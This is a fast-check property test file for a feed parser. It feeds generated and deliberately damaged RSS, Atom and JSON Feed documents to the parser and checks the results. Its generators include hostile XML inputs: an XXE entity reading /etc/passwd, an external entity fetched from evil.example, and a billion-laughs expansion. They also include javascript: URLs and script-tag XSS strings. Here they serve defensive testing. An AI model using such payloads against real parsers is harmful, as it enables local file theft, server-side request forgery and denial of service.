import fc from 'fast-check';
import iconv from 'iconv-lite';
import { FeedParseError, parseFeed, type ParsedFeed } from '.';

/**
 * Properties of parseFeed over what publishers (and attackers) may send: arbitrary bytes, and
 * generated RSS 2.0, RSS 1.0, Atom and JSON Feed documents with broken, hostile and strange parts
 * (DOCTYPEs declaring nested or external entities, unknown and numeric references, CDATA,
 * namespaces, xml:base, control characters, any charset label), whole or cut off anywhere.
 * parseFeed returns a feed whose fields keep their documented promises, or throws a FeedParseError
 * with one of its codes; anything else escaping it is a bug. Inputs stay under ~30 KB, so a hang
 * (or a quadratic blow-up) shows as this file timing out.
 */
const RUNS = { seed: Number(process.env.FC_SEED ?? 20261206), numRuns: Number(process.env.FC_RUNS ?? 200) };
const CODES = ['MALFORMED', 'UNSUPPORTED_FORMAT', 'FORBIDDEN_DTD'];

function parseOrRefuse(body: Buffer, contentType?: string, url?: string): ParsedFeed | FeedParseError {
  try {
    return parseFeed(body, { contentType, url });
  } catch (error) {
    if (error instanceof FeedParseError && CODES.includes(error.code)) return error;
    throw error;
  }
}

const isHttpUrl = (value: string) => /^https?:\/\/[^\s]/i.test(value) && URL.canParse(value);

/** The promises of ParsedFeed (types.ts). */
function expectKeptPromises(feed: ParsedFeed): void {
  expect(['rss2', 'rss1', 'atom', 'jsonfeed']).toContain(feed.format);
  for (const text of [feed.title, feed.language]) if (text !== null) expect(typeof text).toBe('string');
  if (feed.homepageUrl !== null) expect(isHttpUrl(feed.homepageUrl)).toBe(true);
  expect(Array.isArray(feed.entries)).toBe(true);
  for (const item of feed.entries) {
    for (const url of [item.url, item.imageUrl]) if (url !== null) expect([url, isHttpUrl(url)]).toEqual([url, true]);
    for (const text of [item.guid, item.title, item.summaryHtml, item.contentHtml, item.publishedText, item.language, item.baseUrl]) {
      if (text !== null) expect(typeof text).toBe('string');
    }
    // Titles are plain text: no markup left to interpret, no NUL.
    if (item.title !== null) expect(item.title).not.toMatch(/\u0000/);
    for (const date of [item.publishedAt, item.updatedAt]) if (date !== null) expect(Number.isNaN(date.getTime())).toBe(false);
    expect(typeof item.publishedWithoutZone).toBe('boolean');
    for (const list of [item.authors, item.categories]) {
      expect(Array.isArray(list)).toBe(true);
      for (const entry of list) expect(typeof entry).toBe('string');
    }
  }
}

// ---------------------------------------------------------------------------------------------
// Generators.

const CONTENT_TYPES = [
  undefined, 'application/rss+xml', 'application/atom+xml; charset=utf-8', 'text/xml; charset=ISO-8859-1', 'application/xml; charset="windows-1252"',
  'application/feed+json', 'text/html; charset=shift_jis', 'application/json; charset=utf-16', 'text/xml; charset=bogus-charset', 'text/xml; charset=',
  'application/rss+xml; charset=gb2312', 'text/plain; charset=utf-32',
];
const DOCUMENT_URLS = [undefined, 'https://news.example.com/bn/rss.xml', 'http://x.example', 'javascript:alert(1)', 'not a url', 'https://[::1]/feed'];

const TEXTS = [
  'শিরোনাম', 'Putin’s visit', 'مرحبا بالعالم', '中文标题', 'AT&amp;T', 'AT&T', '&lt;b&gt;bold&lt;/b&gt;', '&nbsp;', '&eacute;', '&bogus;', '&#x0;', '&#0;',
  '&#1114112;', '&#55296;', '&#146;', '&#x1F600;', '&', '&#', '&amp', '\u0000', '\u0001\u0008', '\uFFFE', '\uD800', ' \t\n ', '', '<![CDATA[<p>html</p>]]>',
  '<![CDATA[ unterminated', ']]>', '<!-- c -->', '<?pi x?>', '<b>inline</b>', '<p>para', '</item>', '&entity;', '&lol9;', '&xxe;', '\u202e', 'e\u0301',
];
const DATES = [
  'Wed, 03 Sep 2025 12:00:00 GMT', '2025-09-03T12:00:00Z', '2025-09-03T12:00:00', '2025-09-03', '03 Sep 2025', 'Wed, 31 Feb 2025 25:61:61 +9999',
  '9999-12-31T23:59:59Z', '0000-01-01T00:00:00Z', '-010000-01-01T00:00:00Z', '+275760-09-13T00:00:00Z', '৩ সেপ্টেম্বর ২০২৫', 'yesterday', '', '1e309', '2025-13-45T99:99:99Z',
];
const URL_VALUES = [
  'https://news.example.com/a/1', '/relative/2', 'relative.html', '//cdn.example.com/i.jpg', 'javascript:alert(1)', ' java\tscript:alert(1)', 'data:text/html,x',
  'mailto:x@example.com', 'ftp://x.example/', 'http://[::1', 'https://exa mple.com/', '', 'https://news.example.com/%E0%A6',
];

const text = fc.oneof(fc.constantFrom(...TEXTS), fc.string({ maxLength: 30 }), fc.string({ unit: 'binary', maxLength: 15 }));
const element = (name: string, content: fc.Arbitrary<string>, attributes: fc.Arbitrary<string> = fc.constant('')) =>
  fc.tuple(attributes, content).map(([attrs, body]) => `<${name}${attrs}>${body}</${name}>`);
const langAndBase = fc
  .tuple(fc.option(fc.constantFrom('bn', 'en-GB', '', 'zz-invalid-!!'), { nil: undefined }), fc.option(fc.constantFrom(...URL_VALUES), { nil: undefined }))
  .map(([lang, base]) => `${lang === undefined ? '' : ` xml:lang="${lang}"`}${base === undefined ? '' : ` xml:base="${base.replace(/"/g, '')}"`}`);

const rssItem = fc
  .array(
    fc.oneof(
      element('title', text),
      element('link', fc.constantFrom(...URL_VALUES)),
      element('guid', fc.oneof(text, fc.constantFrom(...URL_VALUES)), fc.constantFrom('', ' isPermaLink="false"', ' isPermaLink="true"')),
      element('description', text),
      element('content:encoded', fc.oneof(text, fc.constantFrom('<![CDATA[<p>body <script>alert(1)</script></p>]]>'))),
      element('pubDate', fc.constantFrom(...DATES)),
      element('dc:date', fc.constantFrom(...DATES)),
      element('dc:creator', text),
      element('author', text),
      element('category', text),
      fc.constantFrom(...URL_VALUES).map((url) => `<enclosure url="${url.replace(/"/g, '')}" type="image/jpeg"/>`),
      fc.constantFrom(...URL_VALUES).map((url) => `<media:thumbnail url="${url.replace(/"/g, '')}"/>`),
      element('unknown:thing', text),
    ),
    { maxLength: 8 },
  )
  .chain((children) => langAndBase.map((attrs) => `<item${attrs}>${children.join('')}</item>`));

const atomEntry = fc
  .array(
    fc.oneof(
      element('title', text, fc.constantFrom('', ' type="html"', ' type="xhtml"', ' type="text"')),
      fc.constantFrom(...URL_VALUES).map((url) => `<link rel="alternate" href="${url.replace(/"/g, '')}"/>`),
      element('id', fc.oneof(text, fc.constantFrom(...URL_VALUES))),
      element('summary', text, fc.constantFrom('', ' type="html"')),
      element('content', text, fc.constantFrom('', ' type="html"', ' type="xhtml"', ' src="https://x.example/c"')),
      element('published', fc.constantFrom(...DATES)),
      element('updated', fc.constantFrom(...DATES)),
      element('author', element('name', text)),
      fc.constantFrom('', 'news', 'a&amp;b').map((term) => `<category term="${term}"/>`),
    ),
    { maxLength: 8 },
  )
  .chain((children) => langAndBase.map((attrs) => `<entry${attrs}>${children.join('')}</entry>`));

const channelHead = fc.array(fc.oneof(element('title', text), element('link', fc.constantFrom(...URL_VALUES)), element('language', text)), { maxLength: 3 }).map((parts) => parts.join(''));

const root = fc.oneof(
  fc
    .tuple(channelHead, fc.array(rssItem, { maxLength: 5 }), fc.constantFrom('2.0', '0.91', '', 'x'))
    .map(
      ([head, items, version]) =>
        `<rss version="${version}" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/"><channel>${head}${items.join('')}</channel></rss>`,
    ),
  fc
    .tuple(channelHead, fc.array(rssItem, { maxLength: 5 }))
    .map(
      ([head, items]) =>
        `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel rdf:about="https://x.example/">${head}</channel>${items.map((i) => i.replace('<item', '<item rdf:about="https://x.example/i"')).join('')}</rdf:RDF>`,
    ),
  fc
    .tuple(fc.array(fc.oneof(element('title', text), element('id', text)), { maxLength: 2 }), fc.array(atomEntry, { maxLength: 5 }), fc.constantFrom('http://www.w3.org/2005/Atom', 'http://purl.org/atom/ns#', ''))
    .chain(([head, entries, ns]) => langAndBase.map((attrs) => `<feed xmlns="${ns}"${attrs}>${head.join('')}${entries.join('')}</feed>`)),
  fc.tuple(fc.constantFrom('html', 'rss', 'feed', 'RDF', 'opml', 'x:rss'), text).map(([name, body]) => `<${name}>${body}</${name}>`),
);

const doctype = fc.oneof(
  fc.constant(''),
  fc.constant('<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">'),
  fc.constant('<!DOCTYPE rss [<!ENTITY nbsp "&#160;"><!ENTITY entity "flat value">]>'),
  fc.constant('<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
  fc.constant('<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>'),
  fc.constant(`<!DOCTYPE rss [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('')}]>`),
  fc.integer({ min: 1, max: 400 }).map((n) => `<!DOCTYPE rss [${Array.from({ length: n }, (_, i) => `<!ENTITY e${i} "${'x'.repeat(i * 11)}">`).join('')}]>`),
  fc.constant('<!DOCTYPE rss [ <!-- unterminated'),
  fc.constant('<!DOCTYPE'),
);

const declaration = fc.constantFrom('', '<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-8"?>', '<?xml version="1.0" encoding="windows-1252"?>', '<?xml version="1.0" encoding="shift_jis"?>', '<?xml version="1.0" encoding="bogus"?>', ' \n<?xml version="1.0"?>', '<?xml');

/** A document, then damaged or not: cut off, a byte changed, garbage inserted, re-encoded. */
const xmlDocument = fc
  .tuple(declaration, doctype, fc.constantFrom('', '<!-- comment -->', '<?xml-stylesheet href="x.xsl"?>'), root)
  .map(([decl, dtd, misc, body]) => `${decl}${dtd}${misc}${body}`);

const damaged = (documents: fc.Arbitrary<string>) =>
  fc.tuple(documents, fc.constantFrom('whole', 'whole', 'cut', 'flip', 'insert', 'utf16', 'bom')).chain(([doc, how]) => {
    const bytes = Buffer.from(doc, 'utf8');
    switch (how) {
      case 'cut':
        return fc.integer({ min: 0, max: bytes.length }).map((at) => bytes.subarray(0, at));
      case 'flip':
        return fc.tuple(fc.integer({ min: 0, max: Math.max(0, bytes.length - 1) }), fc.integer({ min: 0, max: 255 })).map(([at, value]) => {
          const copy = Buffer.from(bytes);
          if (copy.length > 0) copy[at] = value;
          return copy;
        });
      case 'insert':
        return fc.tuple(fc.integer({ min: 0, max: bytes.length }), fc.uint8Array({ maxLength: 20 })).map(([at, junk]) => Buffer.concat([bytes.subarray(0, at), Buffer.from(junk), bytes.subarray(at)]));
      case 'utf16':
        return fc.constant(Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(doc, 'utf-16le')]));
      case 'bom':
        return fc.constant(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), bytes]));
      default:
        return fc.constant(bytes);
    }
  });

const jsonish = fc.oneof(fc.constantFrom(...TEXTS), fc.constantFrom(...URL_VALUES), fc.constantFrom(...DATES), fc.jsonValue({ maxDepth: 2 }));
const jsonItem = fc.record(
  {
    id: fc.oneof(fc.string({ maxLength: 20 }), fc.integer(), fc.double(), fc.constant(null), jsonish),
    url: jsonish,
    external_url: jsonish,
    title: jsonish,
    content_html: fc.oneof(jsonish, fc.constant('<p>x<script>alert(1)</script></p>')),
    content_text: jsonish,
    summary: jsonish,
    date_published: jsonish,
    date_modified: jsonish,
    image: jsonish,
    banner_image: jsonish,
    language: jsonish,
    tags: fc.oneof(fc.array(jsonish, { maxLength: 4 }), jsonish),
    authors: fc.oneof(fc.array(fc.oneof(fc.record({ name: jsonish }, { requiredKeys: [] }), jsonish), { maxLength: 3 }), jsonish),
    author: fc.oneof(fc.record({ name: jsonish }, { requiredKeys: [] }), jsonish),
  },
  { requiredKeys: [] },
);
const jsonFeed = fc
  .record(
    {
      version: fc.constantFrom('https://jsonfeed.org/version/1.1', 'https://jsonfeed.org/version/1', 'http://jsonfeed.org/version/9', 'https:\\/\\/jsonfeed.org\\/version\\/1', 'nope', 1),
      title: jsonish,
      home_page_url: jsonish,
      feed_url: jsonish,
      language: jsonish,
      authors: fc.array(fc.record({ name: jsonish }, { requiredKeys: [] }), { maxLength: 2 }),
      items: fc.oneof(fc.array(fc.oneof(jsonItem, jsonish), { maxLength: 6 }), jsonish),
    },
    { requiredKeys: ['version'] },
  )
  .map((feed) => JSON.stringify(feed));

describe('parseFeed (properties)', () => {
  it('any bytes, with any Content-Type and document URL: a feed or a FeedParseError', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 3000 }), fc.constantFrom(...CONTENT_TYPES), fc.constantFrom(...DOCUMENT_URLS), (bytes, contentType, url) => {
        const result = parseOrRefuse(Buffer.from(bytes), contentType, url);
        if (!(result instanceof FeedParseError)) expectKeptPromises(result);
      }),
      { ...RUNS, numRuns: RUNS.numRuns * 2 },
    );
  });

  it('RSS, RSS 1.0 and Atom documents, whole or damaged: a feed that keeps its promises or a FeedParseError', () => {
    fc.assert(
      fc.property(damaged(xmlDocument), fc.constantFrom(...CONTENT_TYPES), fc.constantFrom(...DOCUMENT_URLS), (bytes, contentType, url) => {
        const result = parseOrRefuse(bytes, contentType, url);
        if (!(result instanceof FeedParseError)) expectKeptPromises(result);
      }),
      RUNS,
    );
  });

  it('JSON Feed documents and other JSON, whole or damaged: a feed that keeps its promises or a FeedParseError', () => {
    fc.assert(
      fc.property(damaged(fc.oneof(jsonFeed, fc.jsonValue({ maxDepth: 3 }).map((value) => JSON.stringify(value) ?? 'null'))), fc.constantFrom(...CONTENT_TYPES), fc.constantFrom(...DOCUMENT_URLS), (bytes, contentType, url) => {
        const result = parseOrRefuse(bytes, contentType, url);
        if (!(result instanceof FeedParseError)) expectKeptPromises(result);
      }),
      RUNS,
    );
  });

  it('the generated documents are mostly feeds: the properties above are not only about errors', () => {
    const parsed = (arbitrary: fc.Arbitrary<Buffer>) => fc.sample(arbitrary, { seed: RUNS.seed, numRuns: 100 }).filter((bytes) => !(parseOrRefuse(bytes) instanceof FeedParseError)).length;
    expect(parsed(xmlDocument.map((doc) => Buffer.from(doc)))).toBeGreaterThan(25);
    expect(parsed(jsonFeed.map((doc) => Buffer.from(doc)))).toBeGreaterThan(25);
  });
});
